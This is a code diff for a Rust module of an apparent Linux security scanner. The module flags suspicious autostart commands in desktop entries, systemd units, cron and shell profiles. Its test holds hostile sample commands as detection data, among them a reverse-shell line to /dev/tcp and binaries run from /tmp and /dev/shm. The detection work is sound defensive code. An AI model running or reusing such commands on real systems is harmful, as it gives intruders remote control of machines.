@@ -1,7 +1,7 @@
 //! What starts by itself: desktop entries, the user's units, cron, and of shell profiles, the system's own units
 //! and preloaded libraries what no package puts there.
 
-use super::setting;
+use super::setting_of;
 use crate::linux::{FileText, MachineLook};
 use crate::{Finding, FindingKind, Verdict, hide_in_command};
 
@@ -36,13 +36,13 @@ pub(super) fn collect(look: &MachineLook) -> Vec<Finding> {
 }
 
 fn entry(look: &MachineLook, place: &str, name: &str, command: &str) -> Finding {
-    let verdict = if is_strange(command) { Verdict::Broken } else { Verdict::Fine };
+    let verdict = if command_is_strange(command) { Verdict::Broken } else { Verdict::Fine };
     // Hidden as in a command: which of its options take a secret is known there alone.
     look.line(FindingKind::Autostart, verdict, [place, name, &hide_in_command(command.split_whitespace())])
 }
 
 /// Whether a command is none that a package or a person starts with the computer.
-fn is_strange(command: &str) -> bool {
+pub fn command_is_strange(command: &str) -> bool {
     runs_from_elsewhere(command) || fetches_and_runs(command)
 }
 
@@ -74,8 +74,8 @@ fn desktop_entries(look: &MachineLook) -> Vec<Finding> {
             look.names(&folder).into_iter().filter(|name| name.ends_with(".desktop")).take(MAX_ENTRIES)
         {
             let text = look.text(&format!("{folder}/{name}"));
-            let hidden = setting(&text, "Hidden") == Some("true");
-            if let Some(command) = setting(&text, "Exec").filter(|_| !hidden) {
+            let hidden = setting_of(&text, "Hidden") == Some("true");
+            if let Some(command) = setting_of(&text, "Exec").filter(|_| !hidden) {
                 found.push(entry(look, "XDG", &name, command));
             }
         }
@@ -88,7 +88,7 @@ fn user_units(look: &MachineLook) -> Vec<Finding> {
     let units = look.names(&folder).into_iter().filter(|name| name.ends_with(".service")).take(MAX_ENTRIES);
     let of_unit = |name: String| {
         let text = look.text(&format!("{folder}/{name}"));
-        setting(&text, "ExecStart").map(|command| entry(look, "systemd", &name, command))
+        setting_of(&text, "ExecStart").map(|command| entry(look, "systemd", &name, command))
     };
     units.filter_map(of_unit).collect()
 }
@@ -124,7 +124,9 @@ fn system_units(look: &MachineLook) -> Vec<Finding> {
         // The signs before a command say how it is run (systemd.service(5)).
         let mut commands =
             commands.map(|(_, command)| command.trim_start_matches([' ', '-', '@', '+', '!', ':']));
-        commands.find(|command| is_strange(command)).map(|command| entry(look, "systemd", &name, command))
+        commands
+            .find(|command| command_is_strange(command))
+            .map(|command| entry(look, "systemd", &name, command))
     };
     units.filter_map(of_unit).collect()
 }
@@ -142,18 +144,24 @@ fn preloaded(look: &MachineLook) -> Vec<Finding> {
     lines.filter(strange).take(MAX_ENTRIES).map(of_library).collect()
 }
 
-/// The lines of a crontab, in which so many fields come before the command (crontab(5)).
 fn cron_lines(look: &MachineLook, place: &str, text: &str, fields: usize) -> Vec<Finding> {
+    cron_commands(text, fields)
+        .take(MAX_ENTRIES)
+        .map(|command| entry(look, "cron", place, &command))
+        .collect()
+}
+
+/// The commands of a crontab, in which so many fields come before them (crontab(5)): five in a user's own, six in
+/// the system's.
+pub fn cron_commands(text: &str, fields: usize) -> impl Iterator<Item = String> {
     let is_entry =
         |line: &&str| line.starts_with(|first: char| first.is_ascii_digit() || "*@".contains(first));
-    let lines = text.lines().map(str::trim).filter(is_entry).take(MAX_ENTRIES);
-    let of_line = |line: &str| {
+    let of_line = move |line: &str| {
         let words: Vec<&str> = line.split_whitespace().collect();
-        let before = if line.starts_with('@') { fields - 4 } else { fields };
-        let command = words.get(before..)?.join(" ");
-        Some(entry(look, "cron", place, &command))
+        let before = if line.starts_with('@') { fields.saturating_sub(4) } else { fields };
+        words.get(before..).filter(|command| !command.is_empty()).map(|command| command.join(" "))
     };
-    lines.filter_map(of_line).collect()
+    text.lines().map(str::trim).filter(is_entry).filter_map(of_line)
 }
 
 /// Of shell profiles only what fetches and runs something: the rest is the person's own business.
@@ -164,7 +172,7 @@ fn profiles(look: &MachineLook) -> Vec<Finding> {
     let mut found = Vec::new();
     for path in own.chain(["/etc/profile".to_owned(), "/etc/bash.bashrc".to_owned()]).chain(parts) {
         let text = look.text(&path);
-        let strange = |line: &&str| !line.starts_with('#') && is_strange(line);
+        let strange = |line: &&str| !line.starts_with('#') && command_is_strange(line);
         for line in text.lines().map(str::trim).filter(strange).take(MAX_ENTRIES) {
             found.push(entry(look, "shell", &path, line));
         }
@@ -177,7 +185,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_nobody_starts_with_the_computer_is_strange() {
+    fn what_nobody_starts_with_the_computer_command_is_strange() {
         for command in [
             "/tmp/x",
             "sh -c /dev/shm/.a",
@@ -186,7 +194,7 @@ mod tests {
             "/home/anna/.cache/.x/run",
             "bash -i >& /dev/tcp/1.2.3.4/5",
         ] {
-            assert!(is_strange(command), "{command}");
+            assert!(command_is_strange(command), "{command}");
         }
         for command in [
             "/usr/bin/nm-applet",
@@ -196,7 +204,7 @@ mod tests {
             "export TMPDIR=/tmp/me",
             "test -x /usr/sbin/anacron",
         ] {
-            assert!(!is_strange(command), "{command}");
+            assert!(!command_is_strange(command), "{command}");
         }
     }
 }
